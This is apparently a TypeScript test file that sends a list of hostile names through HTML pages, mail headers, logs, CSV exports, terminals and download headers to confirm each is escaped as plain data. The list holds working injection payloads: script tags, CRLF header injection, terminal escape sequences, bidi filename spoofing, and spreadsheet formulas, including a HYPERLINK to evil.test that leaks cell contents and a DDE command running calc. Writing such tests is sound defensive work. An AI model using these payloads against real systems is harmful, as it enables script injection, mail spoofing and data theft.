import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import express from 'express';
import { inEnglish, msg } from '@svc/contracts';
import { createLogger, escapeHtml } from '@svc/service-kit';
import { temporaryDirectory } from '@svc/testing';
import { RefusedRows } from '@svc/admin/refused-rows';
import { table } from '@svc/admin/table';
import { printError, printLine, type Terminal } from '@svc/admin/terminal';
import { csvCell } from '@svc/console/csv-cell';
import { renderPage } from '@svc/gateway/page';
import { setFileHeaders } from '@svc/gateway/send-file';
import { drawInitials } from '@svc/users/avatars';
import { compose, messageParagraph, paragraph } from '@svc/users/mail';
import { SmtpTransport } from '@svc/users/mail-transport';
import { noteOf } from '@svc/users/notes';
import { SmtpStand, type ReceivedMail } from '@svc/users/testing/smtp-stand';

/** Display names and titles that a sink would obey if it did not treat them as data. */
const hostile = [
  ['an element', `</title><script>alert(1)</script><img src=x onerror="alert('1')">`],
  ['an attribute', `" onload="alert(1)`],
  ['an end of an attribute', `'><svg/onload=alert(1)>`],
  ['a header', 'Eve\r\nBcc: victim@ref.test\r\nX-Evil: 1\r\n\r\n<p>hello'],
  ['a header after a line feed', 'Eve\nSet-Cookie: a=b'],
  ['an address', '"Eve" <eve@evil.test>, Mallory'],
  ['a line of a log', 'x"}\n{"level":30,"msg":"login succeeded"}'],
  ['a line of a log after a Unicode separator', 'x\u2028{"level":30}\u0085{"level":30}'],
  ['a sequence for terminals', '\u001B]0;owned\u0007\u001B[2J\u001B[31m'],
  ['a sequence for terminals of eight bits', '\u009B2J\u009D0;owned\u009C'],
  ['backspaces', `Eve${'\b'.repeat(3)}Ann`],
  ['a reversed end', 'invoice\u202Efdp.exe'],
  ['an isolate without an end', '\u2067\u2066Eve'],
  ['NUL and DEL', 'Eve\u0000\u007F'],
  ['half a character', 'Eve\uD83D'],
  ['a formula', '=HYPERLINK("http://evil.test?"&A1,"x")'],
  ['a command', `+1+cmd|' /C calc'!A0`],
  ['a formula after a minus', '-2+3+cmd|x'],
  ['a formula after an at sign', '@SUM(1+1)*cmd|x'],
  ['a formula after a tab', '\t=1+1'],
  ['a formula after a carriage return', '\r=1+1'],
  ['a formula after a line feed', '\n=1+1'],
  ['a formula of full width', '\uFF1D1+1'],
  ['another cell', 'a",=1+1,"b;=1+1\r\n=1+1'],
  ['placeholders', '{0} ${name} %s %(name)s'],
] as const;

/** Characters that terminals obey or that change the direction of the text after them. */
const control = /[\p{Cc}\u2028\u2029\u202A-\u202E\u2066-\u2069]/u;
const controlButBreaks = /(?![\t\r\n])[\p{Cc}\u2028\u2029\u202A-\u202E\u2066-\u2069]/u;

const harmless = 'Ann Example';

describe('in a page', () => {
  const at = new Date('2026-11-20T12:25:16.000Z');
  const noteWith = (name: string) =>
    noteOf(
      {
        _id: 1,
        userId: 1,
        name: 'mention',
        action: 'mentioned',
        type: 'mentions',
        actor: { userId: 2, name },
        record: { id: 3, postType: 'contacts', name },
        fieldKey: 'comments',
        fieldValue: '',
        secondaryId: 4,
        comment: { original: 'hello', version: 1 },
        at,
        isUnread: true,
        unreadSince: at,
        channels: ['web'],
        eventId: 'e',
        commitId: 'c',
      },
      { translate: inEnglish, permalinkOf: () => 'https://app.test/contacts/3' },
    );
  const pages: readonly (readonly [string, (name: string) => string])[] = [
    ['a page of the gateway', (name) => renderPage({ title: name, body: `<p>${escapeHtml(name)}</p>` })],
    ['a note of a notification', (name) => noteWith(name).html],
    ['an avatar', (name) => drawInitials(name, '#000000')],
    ['the HTML of a mail', (name) => compose('', [messageParagraph(msg`Hello ${name},`, inEnglish)]).html],
    ['the HTML of a message', (name) => compose('', [paragraph(name)]).html.replaceAll('<br>\n', ' ')],
  ];
  const tags = (html: string) => html.match(/<[^>]*>/g);
  const texts = (html: string) => html.replaceAll(/<style>.*<\/style>/gs, '').replaceAll(/<[^>]*>/g, '');

  test.each(
    pages.flatMap(([where, write]) => hostile.map(([what, name]) => [what, where, write, name] as const)),
  )('%s in a name is text of %s', (_what, _where, write, name) => {
    const html = write(name);
    expect(tags(html)).toEqual(tags(write(harmless)));
    expect(texts(html)).not.toMatch(/[<>"']|&(?!amp;|lt;|gt;|quot;|#39;)/);
    expect(html).not.toMatch(controlButBreaks);
  });

  test.each(hostile)('%s in a name is in the one sentence of the text of a note', (_what, name) => {
    const [sentence, comment, ...others] = noteWith(name).text.split('\r\n\r\n');
    expect(sentence).not.toMatch(control);
    expect([comment, others]).toEqual([' hello', []]);
  });
});

describe('in a mail', () => {
  const smtp = new SmtpStand();
  let transport: SmtpTransport;

  beforeAll(async () => {
    await smtp.start();
    transport = new SmtpTransport(smtp.url, 'Records <records@ref.test>');
  });
  afterAll(async () => {
    transport.close();
    await smtp.stop();
  });
  beforeEach(() => void smtp.received.splice(0));

  async function mailWith(name: string): Promise<ReceivedMail> {
    const greeting = messageParagraph(msg`Hello ${name},`, inEnglish);
    const outcome = await transport.send(
      {
        to: { name, address: 'user@ref.test' },
        writer: { name, replyTo: 'writer@ref.test' },
        ...compose(`About ${name}`, [greeting, paragraph('Second.')]),
      },
      '<1@ref.test>',
      new AbortController().signal,
    );
    expect(outcome).toEqual({ state: 'sent' });
    const mail = smtp.received.at(-1);
    if (!mail) throw new Error('the server received no mail');
    return mail;
  }

  const decoded = (text: string) =>
    text
      .replaceAll(/(\?=)\s+(=\?)/g, '$1$2')
      .replaceAll(/=\?utf-8\?([bq])\?(.*?)\?=/gi, (_all, form: string, word: string) =>
        form.toLowerCase() === 'b'
          ? Buffer.from(word, 'base64').toString()
          : decodeURIComponent(word.replaceAll('_', ' ').replaceAll('%', '%25').replaceAll('=', '%')),
      );
  const namesOf = ({ headers }: ReceivedMail) => headers.map((line) => line.slice(0, line.indexOf(':')));

  test.each(hostile)('%s in a name adds no header, receiver or line', async (_what, name) => {
    const expected = namesOf(await mailWith(harmless));
    const mail = await mailWith(name);
    expect(namesOf(mail)).toEqual(expected);
    expect([mail.from, mail.to]).toEqual(['records@ref.test', ['user@ref.test']]);
    for (const line of mail.headers) expect(decoded(line)).not.toMatch(control);
    const { text } = compose('', [messageParagraph(msg`Hello ${name},`, inEnglish), paragraph('Second.')]);
    expect(text).toMatch(/^Hello [^\n]*,\n\nSecond\.\n$/);
    expect(text).not.toMatch(controlButBreaks);
  });
});

describe('in a log', () => {
  test.each(hostile)('%s in a name stays a value in its line', (_what, name) => {
    let output = '';
    const destination = { write: (line: string) => void (output += line) };
    const log = createLogger({ service: 'test', level: 'info', destination });
    log.child({ user: name }).warn({ record: { name }, err: new Error(name) }, 'refused');
    // Lines with secrets are written by other code.
    log.info({ name, password: name }, 'refused');
    const lines = output.split('\n');
    expect(lines).toHaveLength(3);
    for (const line of lines) expect(line).not.toMatch(control);
    const [first, second] = lines.slice(0, 2).map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(first).toMatchObject({ user: name, record: { name }, err: { message: name }, msg: 'refused' });
    expect(second).toMatchObject({ name, password: '[secret]' });
  });
});

describe('in a file for spreadsheets', () => {
  /** The beginning of a cell that is evaluated; a number is harmless. */
  const formula = /^[=@\t\r\n\uFF1D\uFF20\uFF0B\uFF0D]|^[+-](?![\d\s().\/-]*$)/;

  test.each(
    [',', ';'].flatMap((delimiter) => hostile.map(([what, name]) => [what, delimiter, name] as const)),
  )('%s in a refused row of an import is one cell, delimiter %s', async (_what, delimiter, name) => {
    const file = join(temporaryDirectory(), 'refused.csv');
    const rows = new RefusedRows(file, { delimiter, titles: ['name', 'city'] });
    await rows.add([name, 'Bern'], [{ field: 'name', what: name }]);
    await rows.close();
    const read = parse(await readFile(file, 'utf8'), { delimiter });
    expect(read.map((row) => row.length)).toEqual([3, 3]);
    for (const cell of read.flat()) expect(cell).not.toMatch(formula);
  });

  test.each(hostile)('%s in a list that the console exports is one cell', (_what, name) => {
    const [cells = [], ...others] = parse(`${csvCell(name)},${csvCell('Bern')}\r\n`);
    expect([cells.length, others]).toEqual([2, []]);
    expect(cells[0]).not.toMatch(formula);
  });
});

describe('on a terminal', () => {
  function printed(print: (terminal: Terminal) => void): string {
    const stdout = new PassThrough();
    const stderr = new PassThrough();
    print({ stdin: new PassThrough(), stdout, stderr, env: {} });
    return [stdout, stderr].map((stream) => String(stream.read() ?? '')).join('');
  }

  test.each(hostile)('%s in a name is visible in its row of a table', (_what, name) => {
    const rows = [
      ['ID', 'NAME'],
      ['1', name],
      ['2', harmless],
    ];
    const lines = printed((terminal) => printLine(terminal, table(rows))).split('\n');
    expect(lines).toHaveLength(4);
    for (const line of lines) expect(line).not.toMatch(control);
  });

  test.each(hostile)('%s in a text is visible, and data of a program the same value', (_what, name) => {
    const output = printed((terminal) => {
      printError(terminal, `refused: ${name}`);
      printLine(terminal, JSON.stringify({ name }));
    });
    expect(output).not.toMatch(controlButBreaks);
    const json = printed((terminal) => printLine(terminal, JSON.stringify({ name })));
    expect(JSON.parse(json)).toEqual({ name });
  });
});

describe('in the headers of an answer', () => {
  let name = harmless;
  const app = express().get('/', (_request, response) => {
    setFileHeaders(response, { name, type: 'text/plain', is_inline: false }, false);
    response.end('content');
  });
  const server = app.listen(0, '127.0.0.1');

  beforeAll(async () => {
    if (!server.listening) await once(server, 'listening');
  });
  afterAll(() => void server.close());

  async function answer(fileName: string) {
    name = fileName;
    const { port } = server.address() as AddressInfo;
    const response = await fetch(`http://127.0.0.1:${port}/`);
    return { headers: [...response.headers], status: response.status, text: await response.text() };
  }

  test.each(hostile)('%s in the name of a file is part of the name alone', async (_what, fileName) => {
    const expected = await answer(harmless);
    const { headers, status, text } = await answer(fileName);
    expect([status, text]).toEqual([200, 'content']);
    expect(headers.map(([header]) => header)).toEqual(expected.headers.map(([header]) => header));
    const [, disposition = ''] = headers.find(([header]) => header === 'content-disposition') ?? [];
    expect(disposition).toMatch(
      /^attachment; filename=(?:[\w.!#$&+^`|~-]+|"(?:[^"\\]|\\.)*")(?:; filename\*=UTF-8''[\w.!#$&+^`|~%-]+)?$/,
    );
    const [, encoded] = /filename\*=UTF-8''(\S+)$/.exec(disposition) ?? [];
    expect(decodeURIComponent(encoded ?? '')).not.toMatch(control);
  });
});
